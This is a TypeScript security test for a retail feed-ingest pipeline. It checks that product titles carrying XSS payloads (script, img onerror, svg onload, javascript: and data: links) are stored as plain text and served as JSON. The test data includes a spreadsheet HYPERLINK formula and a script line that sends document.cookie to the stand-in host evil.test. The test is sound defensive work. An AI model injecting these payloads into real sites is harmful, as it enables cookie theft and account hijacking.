/**
 * Feed text is data, never markup: markup in titles is reduced to plain text when a listing is
 * normalised, what is left (and the raw text of quarantined rows) is stored as given and returned by the
 * dashboard APIs as JSON strings, byte for byte, never as HTML. Non-http(s) links are dropped.
 * (The page side — React rendering those strings as text — is e2e/security-xss.spec.ts.)
 */
import { NextRequest } from "next/server";
import { describe, expect, it } from "vitest";
import { ingestFeed, storeUpload } from "@/lib/pipeline/ingest";
import { findOrCreateDealer, findOrCreateFeed } from "@/lib/pipeline/dealers";
import { useProcessDb } from "../support/db";

const { db } = useProcessDb();

const HEADER = "upc,title,price,link,in_stock,brand,caliber,grain,case_type,bullet_type,rounds,sku";
const csvCell = (s: string) => `"${s.replace(/"/g, '""')}"`;
const row = (sku: string, title: string, price: string, link = `https://shop.test/p/${sku}`) =>
  ["", csvCell(title), price, csvCell(link), "yes", "Federal", "9mm", "115", "Brass", "FMJ", "50", sku].join(",");

/** sku → [title as sent, the plain text stored and served]. */
const TITLES: Record<string, [string, string]> = {
  "XSS-IMG": ["<img src=x onerror=alert(1)> Federal 9mm Luger 115gr FMJ 50 Rounds", "Federal 9mm Luger 115gr FMJ 50 Rounds"],
  "XSS-SCRIPT": ["<script>alert(document.cookie)</script>Federal 9mm 115gr FMJ 50 Rounds", "Federal 9mm 115gr FMJ 50 Rounds"],
  "XSS-SVG": ['"><svg/onload=alert(1)>Federal 9mm 115 Grain FMJ 50rd', '"> Federal 9mm 115 Grain FMJ 50rd'],
  "XSS-ENTITY": ["&lt;img src=x onerror=alert(1)&gt;Federal 9mm 115gr FMJ Box of 50", "Federal 9mm 115gr FMJ Box of 50"],
  "XSS-DOUBLE": ["&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt; Federal 9mm 115gr 50 Rounds", "&lt;script&gt;alert(1)&lt;/script&gt; Federal 9mm 115gr 50 Rounds"],
  "XSS-IFRAME": ["<iframe src=javascript:alert(1)></iframe>Federal 9mm 115gr FMJ 50 Rounds", "Federal 9mm 115gr FMJ 50 Rounds"],
  "XSS-UNCLOSED": ["Federal 9mm 115gr FMJ 50 Rounds <img src=x onerror=alert(1)", "Federal 9mm 115gr FMJ 50 Rounds"],
  "XSS-SPACED": ["< img src=x onerror=alert(1)> Federal 9mm 115gr FMJ 50 Rounds", "< img src=x onerror=alert(1)> Federal 9mm 115gr FMJ 50 Rounds"],
  "XSS-LT": ["Federal 9mm 115gr FMJ 50 Rounds <3 price < $20 & free shipping", "Federal 9mm 115gr FMJ 50 Rounds <3 price < $20 & free shipping"],
  "FORMULA": ['=HYPERLINK("http://evil.test","Click") Federal 9mm 115gr FMJ 50 Rounds', '=HYPERLINK("http://evil.test","Click") Federal 9mm 115gr FMJ 50 Rounds'],
};
const QUARANTINED_RAW = "<script>fetch('//evil.test/'+document.cookie)</script> no price";

function hostileFeed(): string {
  const rows = Object.entries(TITLES).map(([sku, [title]]) => row(sku, title, "18.99"));
  rows.push(row("XSS-JS-LINK", "Federal 9mm 115gr FMJ 50 Rounds (js link)", "19.99", "javascript:alert(document.domain)"));
  rows.push(row("XSS-DATA-LINK", "Federal 9mm 115gr FMJ 50 Rounds (data link)", "19.99", "data:text/html,<script>alert(1)</script>"));
  rows.push(row("XSS-QUARANTINED", QUARANTINED_RAW, ""));
  return `${HEADER}\n${rows.join("\n")}\n`;
}

/** What an HTML parser would start an element at: `<` immediately followed by a letter (`< img` is text). */
const MARKUP = /<[a-z]/i;

describe("hostile feed text", () => {
  it("is stored as plain text, links only http(s), and served by the APIs as JSON strings, byte for byte", async () => {
    const dealer = await findOrCreateDealer(db().sql, { slug: "xss-dealer", plan: "PRO" });
    const feed = await findOrCreateFeed(db().sql, { dealerId: dealer.id, location: { fileName: "xss.csv" } });
    await storeUpload(db().sql, { feedId: feed.id, fileName: "xss.csv", content: new TextEncoder().encode(hostileFeed()) });
    const result = await ingestFeed(db(), { feedId: feed.id });
    expect(result.status).toBe("SUCCEEDED");
    expect(result.materialization).toMatchObject({ created: Object.keys(TITLES).length + 2, quarantined: 1 });

    const stored = await db().sql.query<{ sku: string; title: string; url: string | null }>(
      `SELECT sku, title, url FROM "DealerSku" WHERE "dealerId" = $1 ORDER BY sku`,
      [dealer.id],
    );
    const bySku = new Map(stored.map((r) => [r.sku, r]));
    for (const [sku, [, plain]] of Object.entries(TITLES)) expect([sku, bySku.get(sku)?.title]).toEqual([sku, plain]);
    for (const r of stored) expect(r.title).not.toMatch(MARKUP);
    expect(bySku.get("XSS-JS-LINK")?.url).toBeNull();
    expect(bySku.get("XSS-DATA-LINK")?.url).toBeNull();
    expect(bySku.get("XSS-IMG")?.url).toBe("https://shop.test/p/XSS-IMG");

    // The dealer's page data: change history and quarantine, as the route handler serves them.
    const { GET } = await import("@/app/api/dealers/[id]/route");
    const response = await GET(new NextRequest(`http://127.0.0.1:3000/api/dealers/${dealer.id}`, { headers: { host: "127.0.0.1:3000" } }), {
      params: Promise.resolve({ id: dealer.id }),
    } as never);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toMatch(/^application\/json/);
    const text = await response.text();
    const detail = JSON.parse(text) as { changes: Array<{ title: string }>; quarantined: Array<{ raw: string; reason: string }> };
    const served = new Set(detail.changes.map((c) => c.title));
    for (const [, plain] of Object.values(TITLES)) expect(served.has(plain), plain).toBe(true);
    // Served as data: the raw quarantined row comes back as the very text the dealer sent, not escaped, not stripped.
    expect(detail.quarantined).toHaveLength(1);
    expect(detail.quarantined[0]!.raw).toContain(QUARANTINED_RAW);
    expect(detail.quarantined[0]!.reason).toMatch(/price/i);
    expect(text).not.toMatch(/<img src=x onerror/);
  });
});
